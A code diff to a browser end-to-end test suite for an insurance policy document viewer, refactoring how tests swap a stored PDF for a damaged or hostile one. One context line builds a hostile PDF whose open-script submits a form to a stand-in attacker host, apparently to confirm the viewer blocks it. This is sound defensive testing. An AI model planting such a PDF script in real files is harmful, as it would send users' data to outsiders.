@@ -34,6 +34,27 @@ describe('Informasi Polis → Dokumen Polis → the viewer, in Chromium', () => 
     await page.getByRole('heading', { name: 'Dokumen Polis' }).waitFor();
   };
 
+  /** Puts `bytes` in the store in place of the policy's Rincian Premi, and answers its id. */
+  const replaceRincianPremi = async (
+    bytes: Buffer,
+    sha256 = crypto.createHash('sha256').update(bytes).digest('hex'),
+  ) => {
+    const [doc] = await svc.service.store.db
+      .selectFrom('documents')
+      .selectAll()
+      .where('title', '=', 'Rincian Premi')
+      .where('policy_number', '=', 'IND2019000123')
+      .execute();
+    await svc.service.store.db
+      .updateTable('documents')
+      .set({ size_bytes: bytes.length, sha256, page_count: 1 })
+      .where('id', '=', doc!.id)
+      .execute();
+    const { FolderDocumentStore } = await import('../../server/domain/documents/store');
+    await new FolderDocumentStore(`${svc.env.DATA_DIR}/documents`).put(doc!.storage_key, bytes);
+    return doc!.id;
+  };
+
   it('shows a policy’s detail in rupiah and Indonesian dates, and its documents', async () => {
     await page.goto(`${app.preview.url}#/menu`);
     await page.getByRole('link', { name: 'Proteksi Jiwa Prima' }).click();
@@ -224,22 +245,9 @@ describe('Informasi Polis → Dokumen Polis → the viewer, in Chromium', () => 
 
   it('says clearly when a file is broken, instead of a blank page', async () => {
     // A damaged file in the store (the add-document command refuses such files; disks still fail).
-    const [doc] = await svc.service.store.db
-      .selectFrom('documents')
-      .selectAll()
-      .where('title', '=', 'Rincian Premi')
-      .where('policy_number', '=', 'IND2019000123')
-      .execute();
-    const damaged = Buffer.from('%PDF-1.7\n this file was cut short');
-    await svc.service.store.db
-      .updateTable('documents')
-      .set({ size_bytes: damaged.length, sha256: 'f'.repeat(64), page_count: 1 })
-      .where('id', '=', doc!.id)
-      .execute();
-    const { FolderDocumentStore } = await import('../../server/domain/documents/store');
-    await new FolderDocumentStore(`${svc.env.DATA_DIR}/documents`).put(doc!.storage_key, damaged);
+    const docId = await replaceRincianPremi(Buffer.from('%PDF-1.7\n this file was cut short'), 'f'.repeat(64));
     await openPolicy();
-    await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${doc!.id}`);
+    await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${docId}`);
     await page.getByText('Dokumen ini rusak atau bukan PDF', { exact: false }).waitFor({ timeout: 20_000 });
     // Said instead of a blank reader: no page counter, no page.
     expect(await page.getByTestId('page-of').count()).toBe(0);
@@ -278,19 +286,7 @@ describe('Informasi Polis → Dokumen Polis → the viewer, in Chromium', () => 
     hostile.addJavaScript('onOpen', "app.alert('pdf script ran'); this.submitForm('https://penyerang.example/curi');");
     const bytes = Buffer.from(await hostile.save());
 
-    const [doc] = await svc.service.store.db
-      .selectFrom('documents')
-      .selectAll()
-      .where('title', '=', 'Rincian Premi')
-      .where('policy_number', '=', 'IND2019000123')
-      .execute();
-    await svc.service.store.db
-      .updateTable('documents')
-      .set({ size_bytes: bytes.length, sha256: crypto.createHash('sha256').update(bytes).digest('hex'), page_count: 1 })
-      .where('id', '=', doc!.id)
-      .execute();
-    const { FolderDocumentStore } = await import('../../server/domain/documents/store');
-    await new FolderDocumentStore(`${svc.env.DATA_DIR}/documents`).put(doc!.storage_key, bytes);
+    const docId = await replaceRincianPremi(bytes);
 
     const dialogs: string[] = [];
     const requests: string[] = [];
@@ -303,7 +299,7 @@ describe('Informasi Polis → Dokumen Polis → the viewer, in Chromium', () => 
     page.on('request', onRequest);
     try {
       await openPolicy();
-      await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${doc!.id}`);
+      await page.goto(`${app.preview.url}#/polis/IND-2019-000123/dokumen/${docId}`);
       await expect.poll(() => page.getByTestId('page-of').textContent(), { timeout: 20_000 }).toBe('Halaman 1 dari 1');
       const links = page.locator('.annotationLayer a');
       await expect.poll(() => links.count()).toBeGreaterThan(0);
